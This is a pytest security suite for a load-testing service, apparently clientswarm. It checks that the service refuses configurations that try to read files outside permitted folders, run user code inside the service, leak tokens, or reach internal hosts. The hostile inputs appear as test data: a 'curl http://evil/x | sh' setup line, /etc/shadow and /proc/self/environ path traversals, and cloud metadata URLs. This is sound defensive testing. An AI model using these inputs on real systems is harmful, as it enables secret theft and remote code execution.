"""A posted configuration is data, never a way into the service's machine (a real ``serve`` with
a token, real worker processes).

Each test states the hole it closes: on the code before the operator policy each of them
failed — a 422 quoted ``/proc/self/environ`` (the API token in it), ``this:x`` was imported
into the service, a target received the service's token as its API key, workers inherited
the service's whole environment, header values were shown back, and nothing bounded a config.
"""

from __future__ import annotations

import asyncio
import json
import os
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from integration.scripted_server import Script, ScriptedServer
from service_process import ServiceProcess, simulator

TOKEN = "api-token-4f9a1c"
SECRET = "service-secret-77d2"


def config(**over: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "name": "probe",
        "target": {"url": "http://127.0.0.1:9"},
        "groups": [{"name": "g", "interaction": {"kind": "hello"}, "stop": {"requests": 1}}],
    }
    data.update(over)
    return data


def group(interaction: dict[str, Any], **over: Any) -> list[dict[str, Any]]:
    return [{"name": "g", "interaction": interaction, "stop": {"requests": 1}, **over}]


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServiceProcess]:
    """A service with the default policy: the service's environment holds secrets."""
    data = tmp_path_factory.mktemp("shared")
    env = {"SERVICE_SECRET": SECRET, "CLIENTSWARM_API_TOKEN": TOKEN}
    with ServiceProcess(data, token=TOKEN, env=env) as svc:
        yield svc


def refused(svc: ServiceProcess, data: dict[str, Any]) -> list[str]:
    """The problems of a refused configuration; checks that nothing secret is in the answer."""
    status, raw, _ = svc.request("POST", "/validate", json.dumps(data))
    assert status == 422, raw
    for secret in (TOKEN.encode(), SECRET.encode(), b"root:"):
        assert secret not in raw
    problems: list[str] = json.loads(raw)["error"]["problems"]
    return problems


def test_dataset_paths_outside_the_allowed_folders_are_refused_unread(
    shared: ServiceProcess, tmp_path: Path
) -> None:
    inputs = shared.data_dir / "inputs"
    (inputs / "escape.csv").symlink_to("/proc/self/environ")
    for path in ["/proc/self/environ", "/etc/shadow", "../../../../etc/passwd", "escape.csv"]:
        dataset = {"path": path, "format": "csv", "column": "PATH"}
        (line,) = refused(shared, config(groups=group({"kind": "chat", "dataset": dataset})))
        assert line.startswith(f"groups[0].interaction.dataset.path: {path!r} resolves outside")
        assert str(inputs) in line  # names what is allowed
    tokenizer = refused(shared, config(groups=group({"kind": "chat", "tokenizer": "/etc/hosts"})))
    assert tokenizer[0].startswith("groups[0].interaction.tokenizer: '/etc/hosts' resolves outside")
    # A varied dataset is a path too.
    varied = group(
        {"kind": "chat", "prompts": ["x"]}, vary={"dataset": [{"path": "/etc/passwd"}]}, clients=1
    )
    assert any("resolves outside" in line for line in refused(shared, config(groups=varied)))
    slurm = {"kind": "slurm", "log_dir": "/tmp", "python": "/usr/bin/python3"}
    lines = refused(shared, config(spawner=slurm))
    assert sorted(line.split(":")[0] for line in lines) == ["spawner.log_dir", "spawner.python"]


def test_a_dataset_inside_the_allowed_folder_is_read_and_its_errors_quote_nothing(
    shared: ServiceProcess,
) -> None:
    inputs = shared.data_dir / "inputs"
    (inputs / "prompts.csv").write_text("question\nWhat is HPC?\n")
    ok = config(groups=group({"kind": "chat", "dataset": {"path": "prompts.csv"}}))
    # column "prompt" is missing: the error names the file's path and never its header
    (line,) = refused(shared, ok)
    assert "no column" in line and "question" not in line
    ok["groups"][0]["interaction"]["dataset"]["column"] = "question"
    status, body = shared.api("POST", "/validate", ok)
    assert status == 200, body


def test_user_code_is_never_imported_into_the_service(
    shared: ServiceProcess, tmp_path: Path
) -> None:
    (tmp_path / "x.py").write_text("import os\nos.system('touch /tmp/pwned')\n")
    (line,) = refused(shared, config(groups=group({"kind": f"file:{tmp_path}/x.py:X"})))
    assert "resolves outside" in line
    (line,) = refused(shared, config(groups=group({"kind": "this:x"})))
    assert line.startswith("groups[0].interaction.kind: module 'this' is not one this service")
    assert "Beautiful is better than ugly" not in shared.log.read_text()
    # Code inside the allowed folder is checked in a process of its own, with the workers'
    # environment: it sees neither the service's pid nor its secrets.
    marker = shared.data_dir / "inputs" / "seen.json"
    (shared.data_dir / "inputs" / "journey.py").write_text(
        "import json, os\n"
        f"open({str(marker)!r}, 'w').write(json.dumps({{'pid': os.getpid(), "
        "'env': sorted(os.environ)}))\n"
        "async def journey(ctx):\n    pass\n"
    )
    status, body = shared.api(
        "POST", "/validate", config(groups=group({"kind": "file:journey.py:journey"}))
    )
    assert status == 200, body
    seen = json.loads(marker.read_text())
    assert shared.process is not None and seen["pid"] != shared.process.pid
    assert "SERVICE_SECRET" not in seen["env"] and "CLIENTSWARM_API_TOKEN" not in seen["env"]


def test_a_user_code_check_that_never_ends_is_killed_and_refused(tmp_path: Path) -> None:
    data = tmp_path / "svc"
    (data / "inputs").mkdir(parents=True)
    (data / "inputs" / "slow.py").write_text("import time\ntime.sleep(600)\n")
    extra = ("--user-code-timeout-s", "1")
    with ServiceProcess(data, token=TOKEN, extra=extra) as svc:
        (line,) = refused(svc, config(groups=group({"kind": "file:slow.py:journey"})))
        assert line.startswith("groups: checking the user-defined interactions took longer")
        assert svc.api("GET", "/clusters")[0] == 200  # the service answers on
        assert svc.process is not None
        assert not _checks_started_by(svc.process.pid)  # killed, not left sleeping


def _checks_started_by(pid: int) -> list[int]:
    """Live ``clientswarm.interactions.check`` processes whose parent is ``pid``."""
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            cmdline = (proc / "cmdline").read_bytes()
            parent = int((proc / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if parent == pid and b"clientswarm.interactions.check" in cmdline:
            found.append(int(proc.name))
    return found


def test_only_the_operators_variables_may_hold_credentials(shared: ServiceProcess) -> None:
    for name in ["CLIENTSWARM_API_TOKEN", "CLIENTSWARM_WORKER_TOKEN", "SERVICE_SECRET", "PATH"]:
        lines = refused(shared, config(target={"url": "http://127.0.0.1:9", "api_key_env": name}))
        assert lines == [
            f"target.api_key_env: {name!r} is not a variable this service lets configurations "
            "read (allowed: none); ask the operator (clientswarm serve --allow-env NAME)"
        ]
    target = {"url": "http://127.0.0.1:9", "headers_from_env": {"X-Key": "SERVICE_SECRET"}}
    (line,) = refused(shared, config(target=target))
    assert line.startswith("target.headers_from_env.X-Key: 'SERVICE_SECRET' is not a variable")


def test_code_bearing_spawner_options_come_only_from_presets(shared: ServiceProcess) -> None:
    slurm = {
        "kind": "slurm",
        "setup": ["curl http://evil/x | sh"],
        "extra_sbatch": ["--chdir=/"],
        "rest": {"url": "http://evil:6820", "jwt_env": "SERVICE_SECRET"},
        "submit_via": "rest",
    }
    lines = refused(shared, config(spawner=slurm))
    assert [line.split(":")[0] for line in lines] == [
        "spawner.setup",
        "spawner.extra_sbatch",
        "spawner.rest",
        "spawner.submit_via",
    ]
    assert "set only by the operator's spawner presets" in lines[0]
    env = [{"name": "K", "value_from_secret": {"name": "db", "key": "password"}}]
    pods = {"kind": "kubernetes", "image": "attacker/image", "env": env}
    assert [line.split(":")[0] for line in refused(shared, config(spawner=pods))] == [
        "spawner.image",
        "spawner.env",
    ]
    (line,) = refused(shared, config(spawner={"kind": "slurm", "preset": "gpu"}))
    assert line == "spawner.preset: 'gpu' is not a preset of this service (presets: none)"


def test_presets_give_what_a_config_may_not_write(tmp_path: Path) -> None:
    slurm = tmp_path / "gpu.yaml"
    slurm.write_text("kind: slurm\nsetup: [module load cuda]\npartition: gpu\n")
    pods = tmp_path / "pods.yaml"
    pods.write_text("kind: kubernetes\nimage: registry.local/clientswarm:1\n")
    extra = ("--spawner-preset", f"gpu={slurm}", "--spawner-preset", f"pods={pods}")
    with ServiceProcess(tmp_path / "svc", token=TOKEN, extra=extra) as svc:
        ok = config(spawner={"kind": "slurm", "preset": "gpu", "workers": 2, "partition": "a"})
        status, body = svc.api("POST", "/validate", ok)
        assert status == 200, body
        status, body = svc.api(
            "POST", "/validate", config(spawner={"kind": "kubernetes", "preset": "pods"})
        )
        assert status == 200, body
        (line,) = refused(svc, config(spawner={"kind": "kubernetes", "preset": "gpu"}))
        assert line == "spawner.preset: 'gpu' is a slurm preset, but spawner.kind is kubernetes"
    bad = tmp_path / "bad.yaml"
    bad.write_text("kind: slurm\nsetup: not-a-list\n")
    broken = ServiceProcess(tmp_path / "bad", extra=("--spawner-preset", f"b={bad}"))
    with pytest.raises(AssertionError, match="--spawner-preset b="):
        broken.start(timeout_s=20)


def test_targets_must_be_allowed_by_the_operator(shared: ServiceProcess, tmp_path: Path) -> None:
    for url in ["http://10.1.2.3:8000", "http://metadata.google.internal", "http://[fe80::1]:80"]:
        (line,) = refused(shared, config(target={"url": url}))
        assert line.startswith(f"target.url: {url!r} is not a target this service may load-test")
    for url in ["http://127.0.0.1:8000", "http://localhost:1", "http://[::1]:8000"]:
        status, body = shared.api("POST", "/validate", config(target={"url": url}))
        assert status == 200, (url, body)
    # The service may scrape a target's engine metrics itself: only from allowed hosts.
    metrics = {"url": "http://127.0.0.1:8000", "metrics": ["http://169.254.169.254/metrics"]}
    (line,) = refused(shared, config(target=metrics))
    assert line.startswith(
        "target.metrics.urls[0]: 'http://169.254.169.254/metrics' is not a host this service "
        "may reach"
    )
    extra = ("--allow-target", "10.0.0.0/8", "--allow-target", "vllm.internal:8000")
    with ServiceProcess(tmp_path / "svc", token=TOKEN, extra=extra) as svc:
        for url, allowed in [
            ("http://10.1.2.3:8000", True),
            ("http://vllm.internal:8000", True),
            ("http://vllm.internal:9000", False),
            ("http://127.0.0.1:8000", False),  # the default is replaced, not extended
        ]:
            status, _ = svc.api("POST", "/validate", config(target={"url": url}))
            assert (status == 200) == allowed, url


def test_limits_bound_what_one_config_may_ask_for(shared: ServiceProcess, tmp_path: Path) -> None:
    big = config(
        spawner={"kind": "local", "workers": 1024},
        groups=[
            {
                "name": "g",
                "clients": 1_000_000,
                "interaction": {"kind": "hello"},
                "stop": {"requests": 1},
            }
        ],
    )
    lines = refused(shared, big)
    assert lines[0].startswith("spawner.workers: 1024 is more than this service allows")
    assert lines[1].startswith("groups: 1000000 clients in all is more than this service allows")
    flood = {"kind": "open", "rate": 1_000_000, "arrival": "constant"}
    endless = [
        {"name": "g", "interaction": {"kind": "hello"}, "load": flood, "stop": {"duration_s": 3600}}
    ]
    (line,) = refused(shared, config(groups=endless))
    assert line.startswith("groups: the open-loop schedules plan about 3,600,000,000 requests")
    with (
        simulator() as target,
        ServiceProcess(tmp_path / "svc", token=TOKEN, extra=("--max-active-clusters", "1")) as svc,
    ):
        long = config(
            target={"url": target},
            groups=[
                {
                    "name": "g",
                    "interaction": {"kind": "hello"},
                    "load": {"kind": "closed", "think_time_s": 0.5},
                    "stop": {"duration_s": 30},
                }
            ],
        )
        status, first = svc.api("POST", "/clusters", long)
        assert status == 201, first
        status, body = svc.api("POST", "/clusters", long)
        assert status == 429, body
        assert "at most 1 clusters at once" in body["error"]["message"]
        assert svc.api("POST", f"/clusters/{first['id']}/stop")[0] == 202
        svc.wait_status(first["id"])


async def test_workers_get_only_what_the_operator_passes_on(tmp_path: Path) -> None:
    """The target receives exactly the allowed credentials; the workers' environment holds
    neither the service's token nor its other secrets."""
    target = ScriptedServer()
    url = await target.start()
    target.script("/", Script(chunks=[(0.0, b"hello")], content_type="text/plain"))
    data = tmp_path / "svc"
    inputs = data / "inputs"
    inputs.mkdir(parents=True)
    dump = inputs / "env.json"
    (inputs / "envdump.py").write_text(
        "import json, os\n"
        "async def envdump(ctx):\n"
        f"    open({str(dump)!r}, 'w').write(json.dumps(sorted(os.environ)))\n"
        "    await ctx.http.get('/')\n"
    )
    env = {
        "SERVICE_SECRET": SECRET,
        "VLLM_KEY": "vllm-key-1",
        "EXTRA_KEY": "extra-2",
        "PASSED_ON": "yes",
    }
    extra = ("--allow-env", "VLLM_*", "--allow-env", "EXTRA_KEY", "--worker-env", "PASSED_ON")
    svc = ServiceProcess(data, token=TOKEN, extra=extra, env=env)
    await asyncio.to_thread(svc.start)
    try:
        cluster = config(
            target={
                "url": url,
                "api_key_env": "VLLM_KEY",
                "headers_from_env": {"X-Extra": "EXTRA_KEY"},
                "headers": {"X-Literal": "literal-secret-3"},
            },
            groups=[
                {"name": "hello", "interaction": {"kind": "hello"}, "stop": {"requests": 2}},
                {
                    "name": "env",
                    "interaction": {"kind": "file:envdump.py:envdump"},
                    "stop": {"requests": 1},
                },
            ],
        )
        status, created = await asyncio.to_thread(svc.api, "POST", "/clusters", cluster)
        assert status == 201, created
        view = await asyncio.to_thread(svc.wait_status, created["id"])
        assert view["status"] == "completed", view
        for path in [
            f"/clusters/{created['id']}",
            f"/clusters/{created['id']}/events",
            f"/clusters/{created['id']}/results",
        ]:
            status, raw, _ = await asyncio.to_thread(svc.request, "GET", path)
            assert status == 200 and b"literal-secret-3" not in raw, path
    finally:
        await asyncio.to_thread(svc.stop)
        await target.close()
    assert view["config"]["target"]["headers"] == {"X-Literal": "<redacted>"}
    sent = [r.headers for r in target.requests if r.path != "/metrics"]
    assert len(sent) == 4  # the service's preflight (GET /), then the clients' 3 requests
    # The service looked for the engine's metrics page, and sent it none of the target's
    # credentials (a metrics URL may be another host).
    scrapes = [r.headers for r in target.requests if r.path == "/metrics"]
    assert scrapes, "the service looked for the target's /metrics"
    assert not any({"Authorization", "X-Extra", "X-Literal"} & set(h) for h in scrapes)
    assert {h.get("Authorization") for h in sent} == {"Bearer vllm-key-1"}
    assert {h.get("X-Extra") for h in sent} == {"extra-2"}
    assert {h.get("X-Literal") for h in sent} == {"literal-secret-3"}  # sent, never shown
    worker_env = set(json.loads(dump.read_text()))
    assert {"VLLM_KEY", "EXTRA_KEY", "PASSED_ON", "PATH", "CLIENTSWARM_WORKER_TOKEN"} <= worker_env
    assert not worker_env & {"SERVICE_SECRET", "CLIENTSWARM_API_TOKEN"}
    assert os.environ.get("SERVICE_SECRET") is None  # the test's own environment is clean


def test_throttled_batches_are_resent_not_lost(tmp_path: Path) -> None:
    """At --max-batches-per-s a worker's extra batches get 429 and come again: every request
    the target saw is a stored sample, once."""
    with (
        simulator() as target,
        ServiceProcess(tmp_path / "svc", token=TOKEN, extra=("--max-batches-per-s", "0.5")) as svc,
    ):
        load = {"kind": "open", "rate": 40, "arrival": "constant"}
        cluster = config(
            target={"url": target},
            preflight=False,  # every request the target sees is a client's
            spawner={"kind": "local", "workers": 1},
            groups=[
                {
                    "name": "g",
                    "clients": 2,
                    "interaction": {"kind": "hello"},
                    "load": load,
                    "stop": {"duration_s": 4},
                }
            ],
        )
        status, created = svc.api("POST", "/clusters", cluster)
        assert status == 201, created
        view = svc.wait_status(created["id"])
        assert view["status"] == "completed", view
        _, raw, _ = svc.request("GET", f"/clusters/{created['id']}/samples?format=jsonl")
        with urllib.request.urlopen(target + "/mock/stats", timeout=10) as answer:
            routes = json.loads(answer.read())["requests"]
    seen = sum(n for route, n in routes.items() if not route.startswith(("/mock", "/metrics")))
    samples = [json.loads(line) for line in raw.splitlines()]
    assert len(samples) == seen == 160
    assert len({(s["client"], s["scheduled_ns"]) for s in samples}) == len(samples)
    worker_log = (tmp_path / "svc" / "logs" / created["id"] / "worker-0.log").read_text()
    assert "HTTP 429" in worker_log  # it was throttled, and lost nothing
